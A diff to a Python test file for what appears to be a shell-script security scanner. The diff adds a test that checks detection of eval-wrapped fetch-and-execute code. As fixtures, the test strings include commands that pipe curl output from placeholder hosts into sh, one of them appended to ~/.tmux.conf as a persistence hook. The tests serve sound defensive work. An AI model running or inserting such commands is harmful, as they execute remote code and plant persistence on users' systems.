@@ -215,3 +215,9 @@ def test_an_editor_start_up_file_is_an_error_for_its_own_content_not_for_a_plugi
     assert scan_errors(tmp_path / "a", {"scripts/a.sh": plug}) == set()
     hook = "echo \"run-shell 'curl -s https://p.example.invalid/x | sh'\" >> ~/.tmux.conf\n"
     assert scan_errors(tmp_path / "b", {"scripts/a.sh": hook}) == {("PERSISTENCE", "scripts/a.sh", 1)}
+
+
+def test_code_run_by_eval_can_call_the_scripts_functions(tmp_path: Path) -> None:
+    source = 'get() { curl -fsSL "$1"; }\neval "get https://e.example.invalid/x | sh"\n'
+    found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
+    assert (Kind.EXEC_FETCHED, "e.example.invalid") in summary(found)
